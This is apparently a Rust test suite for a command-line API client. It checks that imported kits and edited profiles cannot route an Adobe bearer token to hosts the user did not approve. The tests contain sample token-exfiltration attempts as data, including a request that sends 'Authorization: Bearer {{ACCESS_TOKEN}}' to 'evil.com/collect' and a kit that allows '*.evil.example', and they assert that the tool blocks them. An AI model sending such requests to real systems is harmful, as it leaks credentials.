//! A host is trust, and comes only from the person: hostile share kits, imports and backups.

use crate::new_home;
use crate::relay::{Listener, Relay};
use mudbrick_testkit::{CLIENT, Home, ORG, Terminal, secret, text};
use std::path::{Path, PathBuf};
use std::process::Output;

const OWN: &str = "own:Places/List libraries";

/// A colleague's kit: a profile with hosts, a variable that leads to one of them, and a request that is called like the
/// catalogue's.
fn hostile_kit(home: &Home, port: u16, adobe: &str) -> PathBuf {
    let kit = home.path().join("kit");
    write(&kit.join("kit.toml"), "format = \"mudbrick-kit\"\nversion = 1\n");
    let profile = format!(
        r#"version = 1
id = "11111111111111111111111111111111"
name = "Places"
organization = "Acme"
org_id = "{ORG}"
client_id = "{CLIENT}"
adobe = "{adobe}"
risk = "harmless"
allowed_hosts = ["*.com.", "127.0.0.1", "*.evil.example", "localhost"]
created_at = 1
updated_at = 1

[credential]
grant = "oauth_server_to_server"
scopes = ["openid", "AdobeID"]

[variables]
LIBS = "http://127.0.0.1:{port}/collect"
"#
    );
    write(&kit.join("profiles/acme.toml"), &profile);
    let request = "### List libraries\nGET {{LIBS}}\nAuthorization: Bearer {{ACCESS_TOKEN}}\nx-api-key: {{API_KEY}}\n";
    write(&kit.join("requests/Places/List libraries.http"), request);
    kit
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn run(home: &Home, relay: &Relay, arguments: &[&str]) -> Output {
    let mut command = home.command(arguments);
    relay.lead(&mut command);
    command.output().unwrap()
}

fn both(output: &Output) -> String {
    text(&output.stdout) + &text(&output.stderr)
}

fn give_secret(home: &Home) {
    let output =
        home.run_with_input(&["profile", "edit", "Places", "--secret-file", "-"], &secret());
    assert!(output.status.success(), "{}", both(&output));
}

#[test]
fn a_kit_gets_no_token_by_its_hosts_its_variables_and_its_names() {
    let home = new_home();
    let (listener, relay) = (Listener::start(), Relay::start(home.path()));
    let kit = hostile_kit(&home, listener.port, "production");
    let imported = run(&home, &relay, &["import", "--yes", kit.to_str().unwrap()]);
    assert!(imported.status.success(), "{}", both(&imported));
    let shown = text(&imported.stdout);
    for said in [
        "127.0.0.1 may not see the token",
        "*.com. may not see the token",
        "Never allowed: The allowed host \"*.com.\" is too wide",
    ] {
        assert!(shown.contains(said), "{said}: {shown}");
    }
    // What decides about trust is said before everything else that is known of the profile.
    let trust = shown.find("may see its token. None may").unwrap();
    assert!(trust < shown.find("Organization ID").unwrap(), "{shown}");
    assert!(shown.find("Risk: PRODUCTION").unwrap() < trust, "{shown}");
    assert!(shown.find("Connects to: Adobe (production)").unwrap() < trust, "{shown}");

    give_secret(&home);
    let token = run(&home, &relay, &["token", "Places"]);
    assert!(text(&token.stdout).starts_with("eyJ"), "{}", both(&token));

    let meant = run(&home, &relay, &["send", "Places", "Places/List libraries"]);
    assert_eq!(meant.status.code(), Some(2), "{}", both(&meant));
    let said = both(&meant);
    assert!(said.contains(OWN) && said.contains("catalogue:Places/List libraries"), "{said}");

    let sent = run(&home, &relay, &["send", "Places", OWN]);
    assert!(!sent.status.success(), "{}", both(&sent));
    assert!(both(&sent).contains("127.0.0.1 is not one of the hosts"), "{}", both(&sent));
    assert_eq!(listener.heard(), Vec::<String>::new());
    assert!(relay.asked().iter().all(|host| host.ends_with(".adobelogin.com:443")));

    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!([]));
    assert_eq!(show["summary"]["risk"], "production");
}

#[test]
fn a_host_that_the_person_names_is_allowed_and_no_other() {
    let home = new_home();
    let (listener, relay) = (Listener::start(), Relay::start(home.path()));
    let kit = hostile_kit(&home, listener.port, "production");
    let kit = kit.to_str().unwrap();
    for bad in ["*.com.", "*.com", "com", "api.example.com", "*.github.io"] {
        let refused = home.run(&["import", "--yes", kit, "--allow-host", bad]);
        assert_eq!(refused.status.code(), Some(2), "{bad}: {}", both(&refused));
        assert_eq!(home.json(&["--json", "profile", "list"]), serde_json::json!([]));
    }
    home.ok(&["import", "--yes", kit, "--allow-host", "0x7F.1"]);
    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!(["127.0.0.1"]));
    give_secret(&home);
    let sent = run(&home, &relay, &["send", "Places", OWN]);
    assert!(sent.status.success(), "{}", both(&sent));
    assert!(listener.heard().concat().contains("Bearer eyJ"));
}

#[test]
fn a_known_profile_keeps_its_hosts_its_adobe_and_its_risk() {
    let home = new_home();
    home.add_places();
    home.ok(&[
        "profile",
        "edit",
        "Places",
        "--allow-host",
        "api.example.com",
        "--risk",
        "production",
    ]);
    let kit = hostile_kit(&home, 1, "practice");
    let shown = home.ok(&["import", "--yes", kit.to_str().unwrap()]);
    assert!(shown.contains("127.0.0.1 may not see the token of Acme · Places"), "{shown}");
    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!(["api.example.com"]));
    assert_eq!(show["summary"]["risk"], "production");
    assert_eq!(show["summary"]["adobe"], "practice");
}

#[test]
fn a_hurried_person_at_a_terminal_allows_no_host() {
    let home = new_home();
    home.add_places();
    let kit = hostile_kit(&home, 1, "practice");
    let arguments = ["import", kit.to_str().unwrap()];
    let mut terminal = Terminal::run(&home.command(&arguments));
    terminal.waits_for("Import this? [y/N]");
    terminal.types("y\n");
    terminal.waits_for("May 127.0.0.1 see the token of Acme · Places?");
    terminal.types("\n");
    terminal.waits_for("May *.evil.example see the token of Acme · Places?");
    terminal.types("y\n");
    terminal.waits_for("May localhost see the token of Acme · Places?");
    terminal.types("no\n");
    let (status, screen) = terminal.ends();
    let screen = String::from_utf8(screen).unwrap();
    assert!(status.success(), "{screen}");
    // Nobody is asked about what cannot be allowed.
    assert!(!screen.contains("May *.com"), "{screen}");
    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!(["*.evil.example"]));
}

#[test]
fn a_bad_host_in_a_file_allows_nothing_and_is_shown() {
    let home = new_home();
    home.add_places();
    let file = home.path().join("home/profiles/acme-places.toml");
    let written = std::fs::read_to_string(&file).unwrap();
    let hosts = r#"allowed_hosts = ["*.com.", "*", "api.example.com"]"#;
    std::fs::write(&file, written.replace("allowed_hosts = []", hosts)).unwrap();
    let shown = home.ok(&["profile", "show", "Places"]);
    assert!(shown.contains("Allowed host          api.example.com"), "{shown}");
    assert!(shown.contains("Refused host          *.com. allows nothing."), "{shown}");
    let header = "Authorization: Bearer {{ACCESS_TOKEN}}";
    let sent = home.run(&["send", "Places", "https://evil.com/collect", "-H", header]);
    assert!(both(&sent).contains("evil.com is not one of the hosts"), "{}", both(&sent));
    // The profile works, and can be edited; the bad host goes when the person says so.
    home.ok(&["send", "Places", "Places/List libraries"]);
    home.ok(&["profile", "edit", "Places", "--sandbox", "dev"]);
    home.ok(&["profile", "edit", "Places", "--remove-host", "*.com.", "--remove-host", "*"]);
    home.ok(&["profile", "edit", "Places", "--remove-host", "API.example.com."]);
    let missing = home.run(&["profile", "edit", "Places", "--remove-host", "api.example.com"]);
    assert_eq!(missing.status.code(), Some(1), "{}", both(&missing));
    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!([]));
    assert_eq!(show["refused_hosts"], serde_json::json!([]));
}

#[test]
fn the_command_line_allows_no_more_than_one_owners_hosts() {
    let home = new_home();
    home.add_places();
    for bad in
        ["*.com", "*.com.", "com", "*", "*.github.io", "https://api.example.com", "*.c\u{ad}om"]
    {
        let refused = home.run(&["profile", "edit", "Places", "--allow-host", bad]);
        assert_eq!(refused.status.code(), Some(2), "{bad}: {}", both(&refused));
    }
    home.ok(&[
        "profile",
        "edit",
        "Places",
        "--allow-host",
        "localhost",
        "--allow-host",
        "*.me.github.io",
    ]);
    let show = home.json(&["--json", "profile", "show", "Places"]);
    assert_eq!(show["allowed_hosts"], serde_json::json!(["localhost", "*.me.github.io"]));
}

#[test]
fn a_profile_for_production_asks_before_it_writes_unless_the_person_said_otherwise() {
    let home = new_home();
    for (name, more, risk) in [
        ("Plain", &[] as &[&str], "production"),
        ("Said", &["--risk", "development"], "development"),
        ("Stage", &["--adobe", "stage"], "staging"),
        ("Practice", &["--adobe", "practice"], "development"),
    ] {
        let mut arguments = vec!["profile", "add", name, "--org-id", ORG, "--client-id", CLIENT];
        arguments.extend_from_slice(more);
        home.ok(&arguments);
        assert_eq!(home.json(&["--json", "profile", "show", name])["summary"]["risk"], risk);
    }
    let refused = home.run(&["send", "Plain", "https://platform.adobe.io/", "-X", "DELETE"]);
    assert!(both(&refused).contains("DELETE can change data there. Nothing was sent."));
    home.ok(&["profile", "edit", "Practice", "--adobe", "production"]);
    assert_eq!(
        home.json(&["--json", "profile", "show", "Practice"])["summary"]["risk"],
        "production"
    );
}

#[test]
fn a_token_in_a_url_asks_before_it_goes_to_production() {
    let home = new_home();
    home.add_places();
    let url = "https://api-places.adobe.io/places/placesapi/v1/libraries?q={{ACCESS_TOKEN}}";
    let warned = home.run(&["send", "Places", url]);
    let warning = "The URL contains a token or another secret.";
    assert!(both(&warned).contains(warning), "{}", both(&warned));
    std::fs::remove_file(home.path().join("home/history.db")).unwrap();
    home.ok(&["profile", "edit", "Places", "--risk", "production"]);
    let refused = home.run(&["send", "Places", url]);
    assert!(
        both(&refused).contains("the URL contains a token or another secret"),
        "{}",
        both(&refused)
    );
    let mut terminal = Terminal::run(&home.command(&["send", "Places", url]));
    terminal.waits_for("the URL contains a token");
    terminal.waits_for("[y/N]");
    terminal.types("\n");
    assert!(!terminal.ends().0.success());
    let history = home.path().join("home/history.db");
    assert!(!history.exists(), "something was sent");
}
